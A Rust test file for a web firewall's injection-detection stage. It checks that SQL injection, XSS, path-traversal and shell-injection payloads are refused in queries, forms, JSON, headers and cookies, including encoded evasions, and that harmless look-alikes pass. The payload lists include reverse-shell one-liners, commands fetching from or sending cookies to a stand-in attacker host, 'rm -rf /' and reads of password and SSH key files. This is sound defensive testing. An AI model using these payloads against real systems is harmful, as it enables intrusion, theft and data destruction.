//! Attacks with their evasions, and honest look-alikes, through the whole stage; written for this project.

use alloc::format;
use alloc::string::String;
use alloc::vec::Vec;

use super::{Class, Exception, Here, InjectionStage};
use crate::budget::MAX_STEPS;
use crate::finding::{Finding, Findings};
use crate::request::RequestHead;
use crate::request::body::BodyKind;
use crate::units::UnixTime;
use crate::verdict::{Denial, Reason};

fn stage(level: u8) -> InjectionStage {
    InjectionStage::new(level, 5)
}

fn judge_head(
    stage: &InjectionStage,
    route: &[u8],
    pairs: &[(&[u8], &[u8])],
) -> (Option<Denial>, Vec<Finding>) {
    let head = RequestHead::decode(pairs.iter().copied());
    let mut steps = MAX_STEPS;
    let mut found = Findings::default();
    let denied = stage
        .inspect_head(&head, Here::new(route, UnixTime(0)), &mut steps, &mut found)
        .err();
    (denied, found.as_slice().to_vec())
}

fn judge_body(kind: BodyKind, body: &[u8]) -> (Option<Denial>, Vec<Finding>) {
    let mut steps = MAX_STEPS;
    let mut found = Findings::default();
    let denied = stage(1)
        .inspect_body(
            kind,
            body,
            Here::new(b"", UnixTime(0)),
            &mut steps,
            &mut found,
        )
        .err();
    (denied, found.as_slice().to_vec())
}

fn percent(value: &str) -> String {
    value.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn json(value: &str) -> String {
    let mut out = String::from("{\"a\":{\"b\":[\"");
    for letter in value.chars() {
        match letter {
            '"' | '\\' => {
                out.push('\\');
                out.push(letter);
            }
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            _ => out.push(letter),
        }
    }
    out.push_str("\"]}}");
    out
}

/// The places where `value` was refused, in the order query, form, JSON, header, cookie.
fn refused(value: &str) -> [bool; 5] {
    let coded = percent(value);
    let target = format!("/search?page=2&q={coded}");
    let form = format!("page=2&q={coded}");
    let cookie = format!("theme=dark; q={coded}");
    let head = |pairs: &[(&[u8], &[u8])]| judge_head(&stage(1), b"", pairs).0.is_some();
    [
        head(&[(b":method", b"GET"), (b":path", target.as_bytes())]),
        judge_body(BodyKind::Form, form.as_bytes()).0.is_some(),
        judge_body(BodyKind::Json, json(value).as_bytes())
            .0
            .is_some(),
        head(&[(b":path", b"/"), (b"referer", value.as_bytes())]),
        head(&[(b":path", b"/"), (b"cookie", cookie.as_bytes())]),
    ]
}

const ATTACKS: [(Class, &[&str]); 4] = [
    (
        Class::Sqli,
        &[
            "' OR 1=1--",
            "' oR '1'='1",
            "x' || 'a'='a",
            "admin'--",
            "1 or 1=1---",
            "admin')#",
            "1 OR 1=1",
            "1/**/oR/**/1=1/*",
            "\" or \"a\"=\"a",
            "') or ('x'='x",
            "1 UNION SELECT name, pass FROM users",
            "1 UnIoN/**/aLL/**/sElEcT 1,2,3",
            "-1'union(select(1),2,3)-- -",
            "1/*!50000union*/ /*!50000select*/ 1,2",
            "1; DROP TABLE users--",
            "'; EXEC xp_cmdshell 'dir'--",
            "1'; WAITFOR DELAY '0:0:5'--",
            "1 AND SLEEP(5)",
            "1 and ascii(substring((select pass from users limit 1),1,1))>64",
            "1' AND extractvalue(1,concat(0x7e,version()))-- ",
            "(select * from (select(sleep(5)))a)",
            "1 order by 9--",
            "1 and 1=convert(int,@@version)",
            "select load_file(0x2f6574632f706173737764)",
            "' having 1=1--",
            "1 union select null,table_name from information_schema.tables",
            "'; insert into users values (1,'x')--",
            "' or username like 'a%",
            "'='",
        ],
    ),
    (
        Class::Xss,
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js>",
            "<svg/onload=alert(1)>",
            "<img src=x onerror=alert`1`>",
            "<IMG\nSRC=x\nONERROR\n=\nconfirm(1)>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(1)",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(document.cookie)",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href='data:text/html,<b>x</b>'>x</a>",
            "<iframe src=//evil.example>",
            "<object data=x>",
            "<div style=\"width:expression(alert(1))\">",
            "<base href=//evil.example/>",
            "<details open ontoggle=prompt(1)>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;img src=x onerror&#61;alert(1)&#62;",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "＜script＞alert(1)＜/script＞",
            "{{constructor.constructor('alert(1)')()}}",
            "';alert(String.fromCharCode(88))//",
            "document.location='//evil.example/?'+document.cookie",
            "<meta http-equiv=refresh content=0>",
            "<math><a xlink:href=javascript:alert(1)>x",
        ],
    ),
    (
        Class::Traversal,
        &[
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "....//....//etc/passwd",
            "..;/..;/admin",
            "/etc/passwd",
            "/etc/./shadow",
            "file:///etc/hosts",
            "php://filter/convert.base64-encode/resource=index.php",
            "C:\\Windows\\System32\\config\\SAM",
            "\\\\evil.example\\share\\x",
            "%2e%2e%2f%2e%2e%2fx",
            "%252e%252e%252f%252e%252e%252fx",
            "/proc/self/environ",
            "../../../.ssh/id_rsa",
            "x/../../../../boot.ini",
            "phar://upload/x.jpg",
            "../images/x.png\0.php",
        ],
    ),
    (
        Class::Shell,
        &[
            ";cat /etc/hosts",
            "127.0.0.1; ls -la /",
            "127.0.0.1|id",
            "x && whoami",
            "x||wget http://evil.example/x",
            "$(curl evil.example)",
            "`id`",
            "a;cat${IFS}/etc/hosts",
            ";c'a't /etc/hosts",
            ";c\\at /etc/hosts",
            "/bin/sh -c id",
            "x;/usr/bin/id",
            "bash -i >& /dev/tcp/10.0.0.1/9 0>&1",
            "() { :;}; echo vulnerable",
            "& ping -n 9 127.0.0.1",
            "| powershell -enc AAAA",
            "; nc -e /bin/sh 10.0.0.1 9",
            "cmd.exe /c dir",
            "{cat,/etc/hosts}",
            "; rm -rf /",
            "|| uname -a",
            "for /f %i in ('whoami') do echo %i",
            "<!--#exec cmd=\"ls\"-->",
        ],
    ),
];

#[test]
fn attacks_are_refused_wherever_they_stand() {
    for (class, values) in ATTACKS {
        for value in values {
            assert_eq!(refused(value), [true; 5], "{class:?} {value:?}");
        }
    }
}

#[test]
fn evasions_do_not_change_the_verdict() {
    for (class, values) in ATTACKS {
        for value in values {
            let twice = percent(&percent(value));
            assert!(
                refused(&twice)[0],
                "encoded three times: {class:?} {value:?}"
            );
            let entities: String = value.bytes().map(|byte| format!("&#x{byte:x};")).collect();
            if value.is_ascii() && !value.contains('\0') {
                assert!(refused(&entities)[1], "entities: {class:?} {value:?}");
            }
            let padded = format!("  {value}");
            if class != Class::Traversal {
                assert!(refused(&padded)[2], "padded: {class:?} {value:?}");
            }
        }
    }
}

const HONEST: [&str; 71] = [
    "O'Brien",
    "Conan O'Brien and Dara Ó Briain",
    "select a plan from the list",
    "Please select the best seat from the map, or drop me a line.",
    "the union of students selected a new chair",
    "European Union select committee",
    "rock & roll; jazz",
    "Tom & Jerry's",
    "1 or 2 people",
    "either 3 and 4 or 5",
    "I'm sure it's fine, isn't it?",
    "5' 11\" tall",
    "2 + 2 = 4",
    "if (a == b) { return c; }",
    "a < b and c > d",
    "price > 100 and price < 200",
    "I <3 you",
    "-- forwarded message --",
    "wait -- what?",
    "#1 fan of the #2 team",
    "who, what, where & when",
    "my cat; your dog | their bird",
    "let me ping you later; I will echo it",
    "set the alert for 7 am",
    "please confirm (by mail)",
    "sleep (8 hours)",
    "drop by the table; update us",
    "order by phone, group by age",
    "CASE of beer WHEN you arrive",
    "delete from my cart the red one",
    "insert coin into the slot",
    "Robert, who executes and declares",
    "https://shop.example.com/a/b?x=1&y=2#top",
    "http://localhost:3000/callback",
    "/home/alice/notes.txt",
    "../images/logo.png",
    "C:\\Users\\Bob\\report.docx",
    "/usr/local/bin",
    "see the /etc/hosts file",
    "ratio 1/2, 3/4; 5/6",
    "user@example.com; other@example.com",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0",
    "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/7; U; id) Presto/2.8 Version/11.10",
    "{\"theme\":\"dark\",\"q\":\"select all or none\",\"n\":[1,2]}",
    "{id,name,type}",
    "GA1.2.1234567890.1700000000",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
    "dGhpcyBpcyBhIHRva2Vu+/==",
    "100% cotton, 50% off",
    "C++ & C#",
    "<b>bold</b> and <i>italic</i>",
    "<p style=\"margin:0\">Hello <a href=\"https://example.com/\">you</a></p>",
    "the <div> element",
    "Hello {{ first_name }}, welcome",
    "Hello ${name}",
    "JavaScript: the good parts",
    "onload = true?",
    "only=1&once=2",
    "version ^1.2.3 || ~2.0.0",
    ":) ;-) ^_^ <(^_^)> @}-;-'---",
    "L'été, c'est l'heure d'aller à l'océan",
    "Dov'è l'università? All'angolo",
    "rock'n'roll",
    "Ik heb 's avonds 'n afspraak",
    "=SUM(A1:A10)*1.2",
    "| Name | Qty |\n|------|-----|\n| Foo  | 1   |",
    "type more to see; less is more",
    "100;200;300|400",
    "key=value; path=/; secure",
    "Run git diff --exit-code || bash -c \\",
];

#[test]
fn honest_values_pass_wherever_they_stand() {
    for value in HONEST {
        assert_eq!(refused(value), [false; 5], "{value:?}");
    }
}

#[test]
fn paths_are_inspected() {
    const CASES: [(&str, bool); 8] = [
        ("/static/../../etc/passwd", true),
        ("/items/1%20union%20select%201,2,3", true),
        ("/items/%3Cscript%3Ealert(1)%3C/script%3E", true),
        ("/items/;cat%20/etc/hosts", true),
        ("/api/ping", false),
        ("/blog/tags/python", false),
        ("/etc/passwords/reset", false),
        ("/select/from/where", false),
    ];
    for (path, expected) in CASES {
        let (denied, _) = judge_head(&stage(1), b"", &[(b":path", path.as_bytes())]);
        assert_eq!(denied.is_some(), expected, "{path}");
    }
}

#[test]
fn base64_of_text_is_read() {
    const CASES: [(&str, bool); 6] = [
        ("JyBPUiAxPTEtLSB4", true),
        ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", true),
        ("Li4vLi4vZXRjL3Bhc3N3ZA", true),
        ("O2NhdCAvZXRjL2hvc3Rz", true),
        ("aGVsbG8sIHdvcmxkISBhbGwgaXMgd2VsbA==", false),
        ("6f1e7a3c1d2b4c3d8e9f0a1b2c3d4e5f", false),
    ];
    for (value, expected) in CASES {
        assert_eq!(refused(value), [expected; 5], "{value}");
    }
}

#[test]
fn findings_say_what_and_where() {
    let pairs: [(&[u8], &[u8]); 2] = [(b":path", b"/"), (b"referer", b"<script>alert(1)</script>")];
    let (denied, found) = judge_head(&stage(1), b"", &pairs);
    assert_eq!(denied.map(|denial| denial.reason), Some(Reason::Injection));
    let finding = &found[0];
    assert_eq!(finding.rule, b"xss");
    assert_eq!(finding.place, b"header:referer");
    assert_eq!(finding.score, 5);
    assert!(finding.evidence.starts_with(b"<script>") && finding.evidence.len() <= 64);

    let (_, found) = judge_body(BodyKind::Json, br#"{"user":{"name":"' or 1=1--"}}"#);
    assert_eq!(found[0].place, b"body:user.name");
    let (_, found) = judge_body(BodyKind::Form, b"pass%77ord=%27+or+1=1--");
    assert_eq!(found[0].place, b"body:password");
    let (_, found) = judge_body(BodyKind::Form, b"a=1&b=%27+or+1=1--");
    assert_eq!(found[0].place, b"body:b");
}

#[test]
fn names_are_inspected() {
    let (denied, _) = judge_head(
        &stage(1),
        b"",
        &[(b":path", b"/?%3Cscript%3Ealert(1)%3C/script%3E=1")],
    );
    assert!(denied.is_some());
    let (denied, _) = judge_body(BodyKind::Json, br#"{"' or 1=1--":1}"#);
    assert!(denied.is_some());
}

#[test]
fn malformed_json_is_refused_and_an_empty_body_is_not() {
    const CASES: [(&[u8], Option<Reason>); 5] = [
        (b"", None),
        (b" \n", None),
        (b"{}", None),
        (b"{\"a\":", Some(Reason::MalformedBody)),
        (b"{\"a\":1}x", Some(Reason::MalformedBody)),
    ];
    for (body, expected) in CASES {
        let (denied, _) = judge_body(BodyKind::Json, body);
        assert_eq!(denied.map(|denial| denial.reason), expected, "{body:?}");
    }
}

#[test]
fn an_exception_needs_all_its_parts() {
    let pairs: [(&[u8], &[u8]); 1] = [(b":path", b"/?content=%3Cscript%3Ealert(1)%3C/script%3E")];
    type Case = (
        Option<&'static [u8]>,
        Option<&'static [u8]>,
        &'static [Class],
        bool,
    );
    const CASES: [Case; 6] = [
        (Some(b"blog"), Some(b"content"), &[Class::Xss], false),
        (None, None, &[], false),
        (Some(b"blog"), None, &[Class::Xss, Class::Sqli], false),
        (Some(b"other"), Some(b"content"), &[Class::Xss], true),
        (Some(b"blog"), Some(b"title"), &[Class::Xss], true),
        (Some(b"blog"), Some(b"content"), &[Class::Sqli], true),
    ];
    for (route, field, classes, expected) in CASES {
        let mut stage = stage(1);
        stage.except.push(Exception {
            route: route.map(<[u8]>::to_vec),
            field: field.map(<[u8]>::to_vec),
            classes: classes.to_vec(),
            ..Exception::default()
        });
        let (denied, _) = judge_head(&stage, b"blog", &pairs);
        assert_eq!(
            denied.is_some(),
            expected,
            "{route:?} {field:?} {classes:?}"
        );
    }
}

#[test]
fn a_value_encoded_beyond_the_bound_is_a_finding() {
    let coded = |rounds: usize| {
        let mut value = String::from("%41");
        for _ in 1..rounds {
            value = value.replace('%', "%25");
        }
        let target = format!("/?q={value}");
        judge_head(&stage(1), b"", &[(b":path", target.as_bytes())]).0
    };
    // One decoding is the form's own, the rest are the deep view's.
    assert!(coded(crate::budget::MAX_DECODE_ROUNDS + 1).is_none());
    assert!(coded(crate::budget::MAX_DECODE_ROUNDS + 2).is_some());
}

#[test]
fn levels_only_add() {
    let suspicious = [(&b":path"[..], &b"/?file=../images/logo.png"[..])];
    assert!(judge_head(&stage(1), b"", &suspicious).0.is_none());
    assert!(judge_head(&stage(2), b"", &suspicious).0.is_none());
    assert!(judge_head(&stage(3), b"", &suspicious).0.is_some());
    assert!(judge_head(&stage(4), b"", &suspicious).0.is_some());
}

#[test]
fn a_spent_budget_refuses() {
    let head = RequestHead::decode([(&b":path"[..], &b"/?q=a+long+enough+value"[..])].into_iter());
    let judge = |mut steps: u64| {
        let mut found = Findings::default();
        let denied = stage(1)
            .inspect_head(&head, Here::new(b"", UnixTime(0)), &mut steps, &mut found)
            .err();
        (denied.map(|denial| denial.reason), steps)
    };
    let (reason, left) = judge(MAX_STEPS);
    assert_eq!(reason, None);
    let used = MAX_STEPS - left;
    assert_eq!(judge(used + 1).0, None);
    assert_eq!(judge(used).0, Some(Reason::InspectionBudget));
}

#[test]
fn a_spent_budget_refuses_or_judges_the_prefix() {
    let judge = |prefix: bool, body: &[u8]| {
        let mut one = stage(1);
        (one.steps, one.prefix) = (1000, prefix);
        let (mut steps, mut found) = (one.steps, Findings::default());
        let here = Here::new(b"", UnixTime(0));
        let denied = one
            .inspect_body(BodyKind::Form, body, here, &mut steps, &mut found)
            .err();
        let said = found
            .as_slice()
            .iter()
            .any(|finding| finding.reason == Reason::InspectionBudget);
        (denied.map(|denial| denial.reason), said)
    };
    let honest = b"name=of+the+game&".repeat(200);
    assert_eq!(
        judge(false, &honest),
        (Some(Reason::InspectionBudget), true)
    );
    assert_eq!(judge(true, &honest), (None, true));
    assert_eq!(judge(true, b"name=of+the+game"), (None, false));
    let first = [b"a=1'+OR+1=1--&", &honest[..]].concat();
    for prefix in [false, true] {
        assert_eq!(judge(prefix, &first), (Some(Reason::Injection), false));
    }
}

#[test]
fn cost_grows_with_the_input_and_not_faster() {
    const PIECES: [&str; 26] = [
        "'", "\"", "`", "<", "(", "--", "\\", "%25", "/*", "../", ";", "&", "$(", "{", "<a ",
        "<style>", "on", "or 1", "\n", " ", "x'", "<a b=\"", "select ", "a(", "j:", "&#x41",
    ];
    let steps = |piece: &str, size: usize| {
        let value = piece.repeat(size / piece.len());
        let all = u64::MAX / 2;
        let mut steps = all;
        let mut found = Findings::default();
        let result = stage(1).inspect_body(
            BodyKind::Other,
            value.as_bytes(),
            Here::new(b"", UnixTime(0)),
            &mut steps,
            &mut found,
        );
        assert!(result.is_ok() || !found.as_slice().is_empty());
        all - steps
    };
    for piece in PIECES {
        let small = steps(piece, 32 * 1024);
        let large = steps(piece, 64 * 1024);
        assert!(
            large * 10 <= small * 22 + 1000,
            "{piece:?}: {small} then {large}"
        );
    }
}

#[test]
fn hostile_bytes_get_a_verdict() {
    for (_, values) in ATTACKS {
        for value in values {
            let bytes = value.as_bytes();
            for end in 0..bytes.len() {
                let _ = judge_body(BodyKind::Other, &bytes[..end]);
                let mut changed = bytes.to_vec();
                for hostile in [0x00, 0x80, 0xC0, 0xE0, 0xF0, 0xFF, b'%', b'\\', b'&'] {
                    changed[end] = hostile;
                    let _ = judge_body(BodyKind::Form, &changed);
                    let _ = judge_head(
                        &stage(4),
                        b"",
                        &[(b":path", &changed), (b"cookie", &changed)],
                    );
                }
            }
        }
    }
    for first in 0..=u8::MAX {
        for second in 0..=u8::MAX {
            let _ = judge_body(BodyKind::Other, &[first, second, b'(', first]);
        }
    }
}

#[test]
fn a_class_with_a_threshold_of_its_own_is_counted_apart() {
    let judge = |stage: &InjectionStage, route: &[u8], target: &[u8]| {
        judge_head(stage, route, &[(b":method", b"GET"), (b":path", target)])
            .0
            .is_some()
    };
    let xss: &[u8] = b"/?q=<script>alert(1)</script>";
    let sql: &[u8] = b"/?q=1'%20OR%201=1--";
    let mut stage = stage(1);
    let mut blog = stage.rules.clone();
    blog.adjust(&[Class::Xss], None, Some(6));
    stage.routes.push((b"blog".to_vec(), blog));
    assert!(judge(&stage, b"shop", xss) && judge(&stage, b"shop", sql));
    assert!(!judge(&stage, b"blog", xss) && judge(&stage, b"blog", sql));

    // A lower one blocks what the others' threshold lets pass.
    stage.rules.threshold = 100;
    stage.rules.adjust(&[Class::Sqli], None, Some(5));
    assert!(!judge(&stage, b"shop", xss) && judge(&stage, b"shop", sql));
}

#[test]
fn a_finding_tells_its_level_and_an_expired_exception_is_none() {
    let mut stage = stage(4);
    stage.except.push(Exception {
        classes: [Class::Sqli].to_vec(),
        expires: Some(UnixTime(100)),
        ..Exception::default()
    });
    let judge = |now| {
        let pairs: [(&[u8], &[u8]); 2] = [(b":method", b"GET"), (b":path", b"/?q=1'%20OR%201=1--")];
        let head = RequestHead::decode(pairs.into_iter());
        let mut found = Findings::default();
        let here = Here::new(b"", UnixTime(now));
        let mut steps = MAX_STEPS;
        let _ = stage.inspect_head(&head, here, &mut steps, &mut found);
        found
    };
    let before = judge(99);
    assert!(before.as_slice().iter().all(|one| one.rule != b"sqli"));
    assert_ne!(before.excepted, super::Used::default());
    let after = judge(100);
    assert!(
        after
            .as_slice()
            .iter()
            .any(|one| one.rule == b"sqli" && one.level == 1)
    );
    assert_eq!(after.excepted, super::Used::default());
}

/// Whoever decodes a cookie reads `%2B` as a sign; whoever reads a logged URL, as a blank.
#[test]
fn a_plus_in_a_cookie_is_a_sign_and_a_blank() {
    let refused = |value: &str| {
        let cookie = format!("theme=dark; q={value}");
        let stage = InjectionStage::new(1, 5);
        judge_head(
            &stage,
            b"",
            &[(b":path", b"/"), (b"cookie", cookie.as_bytes())],
        )
        .0
        .is_some()
    };
    for value in [
        "1%2BUNION%2BSELECT%2Bpassword%2BFROM%2Busers",
        "\"%2Balert(1)%2B\"",
        "%7B%7B7%2B7%7D%7D",
    ] {
        assert!(refused(value), "{value}");
    }
    for value in [
        "bob%2Bshop@example.com",
        "%2B41%2079%20123%2045%2067",
        "a%2Bb%2Bc",
    ] {
        assert!(!refused(value), "{value}");
    }
}
